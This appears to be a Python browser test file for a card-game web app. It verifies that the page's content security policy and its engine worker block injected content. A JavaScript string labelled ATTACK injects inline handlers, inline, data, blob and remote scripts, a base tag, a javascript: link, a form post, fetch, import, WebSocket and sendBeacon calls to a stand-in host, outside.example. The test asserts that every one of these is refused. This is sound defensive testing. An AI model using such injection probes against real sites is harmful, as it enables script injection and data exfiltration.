"""The policy of a page holds in the browser: what is slipped into it neither runs nor calls out.

Every other browser test fails on a violation too, since the browser reports it as an error.
"""

from __future__ import annotations

from conftest import Reader
from stepping import LEO, LEO_AT_TRICK_THREE, acting_card, at, click

ATTACK = """async () => {
    const told = []
    const tell = (event) => told.push(event.effectiveDirective)
    document.addEventListener("securitypolicyviolation", tell)
    const put = (name, attributes) =>
        document.body.append(Object.assign(document.createElement(name), attributes))
    const outside = "https://outside.example/"
    const half = document.createElement("div")
    half.innerHTML = `<p onclick="self.ran = 'handler'">x</p><p style="color: red">x</p>`
    document.body.append(half)
    half.firstChild.click()
    put("script", { textContent: "self.ran = 'inline script'" })
    put("script", { src: "data:text/javascript,self.ran='data script'" })
    put("script", { src: URL.createObjectURL(new Blob(["self.ran = 'blob script'"])) })
    put("script", { src: `${outside}a.js` })
    put("img", { src: `${outside}a.png` })
    put("iframe", { src: outside })
    put("object", { data: `${outside}a.pdf` })
    put("style", { textContent: "body { color: red }" })
    put("base", { href: outside })
    put("link", { rel: "stylesheet", href: `${outside}a.css` })
    put("a", { href: "javascript:self.ran='address'" })
    document.body.lastChild.click()
    put("form", { action: outside, method: "post" })
    document.body.lastChild.submit()
    const called = await Promise.allSettled([fetch(outside), import(`${outside}a.js`)])
    try { new Function("self.ran = 'text'")() } catch { /* as it should be */ }
    try { new WebSocket("wss://outside.example/") } catch { /* reported below */ }
    navigator.sendBeacon(outside, "x")
    await new Promise((next) => setTimeout(next, 500))
    const answers = called.map(({ status }) => status)
    return { told, ran: self.ran ?? null, answers, base: document.baseURI }
}"""


def test_nothing_that_is_slipped_in_runs_or_calls_out(either_reader: Reader) -> None:
    refused: dict[str, str] = {}
    page = either_reader.open("no/rules.html")
    page.on("requestfailed", lambda request: refused.update({request.url: request.failure or ""}))
    assert either_reader.errors == []
    found = page.evaluate(ATTACK)
    assert found["ran"] is None
    assert found["answers"] == ["rejected", "rejected"]
    assert found["base"] == page.url
    assert set(found["told"]) >= {
        *("script-src-attr", "style-src-attr", "script-src-elem", "style-src-elem", "script-src"),
        *("img-src", "connect-src", "frame-src", "object-src", "base-uri", "form-action"),
    }
    called = [url for url in either_reader.requests if url.startswith("https:")]
    assert {refused[url] for url in called} <= {"csp"}
    either_reader.requests[:] = set(either_reader.requests) - set(called)
    assert either_reader.errors, "a violation must fail the test in which it happens"
    either_reader.errors.clear()


CALLS = """async () => {
    const outside = "https://outside.example/"
    const ways = ["XMLHttpRequest", "WebSocket", "WebTransport", "EventSource", "Worker"]
    const calls = [() => fetch(outside), async () => importScripts(outside)]
    const called = await Promise.allSettled(calls.map((call) => call()))
    return [ways.filter((way) => way in self), called.map(({ reason }) => String(reason))]
}"""


def test_the_worker_of_the_engine_calls_nobody(either_reader: Reader) -> None:
    """By http it is a file of its own, which the page's policy does not cover."""
    page = either_reader.hand("en", LEO)
    click(acting_card(page, "TH"))
    at(page, LEO_AT_TRICK_THREE + 1)
    (worker,) = page.workers  # the one that unpacked has gone
    refused = "TypeError: refused: https://outside.example/"
    assert worker.evaluate(CALLS) == [[], [refused, "Error: nothing is loaded into this worker"]]
